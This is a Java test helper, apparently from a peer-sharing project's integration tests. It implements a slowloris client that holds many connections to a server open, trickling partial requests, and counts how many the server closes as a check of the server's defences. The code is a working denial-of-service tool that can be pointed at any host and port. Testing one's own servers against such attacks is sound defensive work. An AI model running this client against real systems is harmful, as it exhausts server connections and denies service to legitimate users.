package io.peershare.it;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A slowloris attacker for any protocol (the tracker's HTTP here; the wire protocol has
 * {@link io.peershare.protocol.hostile.HostileClient}): many connections to one server, half of them silent, half
 * trickling the start of a request one byte every two seconds and never finishing it. Counts the connections the server closed (end
 * of stream or reset), which is what a server that defends itself does. Closing this closes what is left.
 */
final class SlowClients implements AutoCloseable {

    private static final long TRICKLE_EVERY_MILLIS = 2000;

    private final Selector selector;
    private final List<SocketChannel> trickling = new ArrayList<>();
    private final AtomicInteger opened = new AtomicInteger();
    private final AtomicInteger closedByServer = new AtomicInteger();
    private final byte[] request;
    private final Thread loop;
    private volatile boolean closed;

    private SlowClients(byte[] request) throws IOException {
        this.selector = Selector.open();
        this.request = request;
        this.loop = Thread.ofPlatform().name("slowloris").daemon().unstarted(this::run);
    }

    /** Opens up to {@code count} connections (fewer when the server stops accepting) and starts trickling. */
    static SlowClients open(String host, int port, int count, byte[] request) throws IOException {
        SlowClients clients = new SlowClients(request);
        for (int i = 0; i < count; i++) {
            try {
                SocketChannel channel = SocketChannel.open();
                channel.socket().connect(new InetSocketAddress(host, port), 2000);
                channel.configureBlocking(false);
                channel.register(clients.selector, SelectionKey.OP_READ, new int[] {0});
                if (i % 2 == 1) {
                    clients.trickling.add(channel);
                }
                clients.opened.incrementAndGet();
            } catch (IOException e) {
                // a server that refuses more connections is defending itself; count what was opened
            }
        }
        clients.loop.start();
        return clients;
    }

    int opened() {
        return opened.get();
    }

    int closedByServer() {
        return closedByServer.get();
    }

    private void run() {
        ByteBuffer sink = ByteBuffer.allocate(4096);
        long nextTrickle = System.currentTimeMillis();
        while (!closed) {
            try {
                selector.select(250);
                for (SelectionKey key : selector.selectedKeys()) {
                    sink.clear();
                    if (readEnded((SocketChannel) key.channel(), sink)) {
                        drop(key);
                    }
                }
                selector.selectedKeys().clear();
                if (System.currentTimeMillis() >= nextTrickle) {
                    trickle();
                    nextTrickle = System.currentTimeMillis() + TRICKLE_EVERY_MILLIS;
                }
            } catch (IOException | RuntimeException e) {
                if (!closed) {
                    System.err.println("slowloris loop: " + e);
                }
            }
        }
    }

    /** One more byte of the request on every trickling connection, stopping one byte short of its end. */
    private void trickle() {
        for (SocketChannel channel : trickling) {
            SelectionKey key = channel.keyFor(selector);
            if (key == null || !key.isValid()) {
                continue;
            }
            int[] sent = (int[]) key.attachment();
            if (sent[0] >= request.length - 1) {
                continue;
            }
            try {
                if (channel.write(ByteBuffer.wrap(request, sent[0], 1)) == 1) {
                    sent[0]++;
                }
            } catch (IOException e) {
                drop(key);
            }
        }
    }

    private static boolean readEnded(SocketChannel channel, ByteBuffer sink) {
        try {
            return channel.read(sink) < 0;
        } catch (IOException e) {
            return true;
        }
    }

    private void drop(SelectionKey key) {
        if (key.isValid()) {
            key.cancel();
            closedByServer.incrementAndGet();
            try {
                key.channel().close();
            } catch (IOException ignored) {
                // closing our end of a connection the server already closed
            }
        }
    }

    @Override
    public void close() throws IOException {
        closed = true;
        try {
            loop.join(2000);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        for (SelectionKey key : selector.keys()) {
            key.channel().close();
        }
        selector.close();
    }
}
